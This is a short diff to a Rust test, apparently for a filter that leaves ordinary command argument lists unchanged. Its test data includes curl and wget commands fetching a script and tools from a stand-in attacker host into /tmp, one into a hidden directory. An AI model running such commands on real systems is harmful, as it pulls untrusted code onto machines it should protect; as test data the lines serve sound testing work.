@@ -370,6 +370,7 @@ fn a21_ordinary_arguments_and_lists_stay() {
     for arguments in [
         json!(["curl", "-sS", "-o", "/tmp/x", "https://evil.com/run.sh"]),
         json!(["mysql", "-P", "3306", "-u", "root", "-p"]),
+        json!(["wget", "https://evil.com/tools.zip", "-P", "/tmp/.hidden"]),
         json!(["app", "--token", "--secret", "--api-key", "--verbose"]),
         json!(["sh", "-c", "echo password reset by admin", "the user"]),
         json!([
